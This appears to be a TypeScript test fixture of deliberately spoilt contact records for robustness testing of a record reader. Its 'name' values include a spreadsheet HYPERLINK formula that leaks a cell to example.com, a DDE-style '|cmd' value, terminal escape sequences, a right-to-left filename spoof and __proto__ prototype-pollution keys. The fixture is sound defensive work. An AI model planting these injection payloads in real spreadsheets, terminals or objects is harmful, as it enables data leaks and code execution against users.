/** Records such as strangers, imports and old versions leave behind: a reader has to survive each. */

export type Part = 'name' | 'email' | 'phone' | 'tags' | 'lastMessage';

// biome-ignore lint/suspicious/noExplicitAny: these records are spoilt on purpose
type Spoilt = any;

export interface Oddity {
  /** A name typed by someone who means no good, or at least no name. */
  readonly name?: string;
  /** What the record does not hold, so that no filter finds it by that. */
  readonly lacks?: readonly Part[];
  /** Changes the parsed record. */
  readonly spoil?: (record: Spoilt) => void;
}

export const oddities: readonly Oddity[] = [
  { name: '\u001b[31mRed Alert\u001b[0m' },
  { lacks: ['email'], spoil: (record) => delete record.profile.userDetails.contact?.email },
  { name: '=HYPERLINK("https://example.com/?leak="&A1,"Open me")' },
  {
    lacks: ['name', 'email', 'phone', 'tags'],
    spoil: (record) => delete record.profile.userDetails,
  },
  { name: '\u202Egnp.eciovni' },
  {
    lacks: ['email', 'phone'],
    spoil: (record) => {
      record.profile.userDetails.contact = null;
      delete record.profile.userDetails.whatsAppNumber;
    },
  },
  { name: '\nLeading newline' },
  { lacks: ['lastMessage'], spoil: (record) => delete record.lastMessage },
  { name: '\u001b]0;owned\u0007 👩‍👩‍👧‍👦 Familie' },
  { lacks: ['tags'], spoil: (record) => delete record.profile.userDetails.tags },
  { name: `Long ${'Longer '.repeat(40)}Longest` },
  {
    lacks: ['name', 'email', 'phone', 'tags'],
    spoil: (record) => {
      record.profile = null;
    },
  },
  { name: 'Half an emoji \ud83d', lacks: ['email'] },
  {
    spoil: (record) => {
      const details = record.profile.userDetails;
      details.attributes = [
        { key: '__proto__', value: 'polluted' },
        { key: 'constructor', value: { nested: ['=1+1', null] } },
        { key: '', value: 'no key' },
        null,
      ];
    },
  },
  { name: '+SUM(1;1)|cmd\t"quoted", and more' },
  {
    spoil: (record) => {
      record.platform = record.platform[0];
      record.unreadMessages = '3';
    },
  },
];
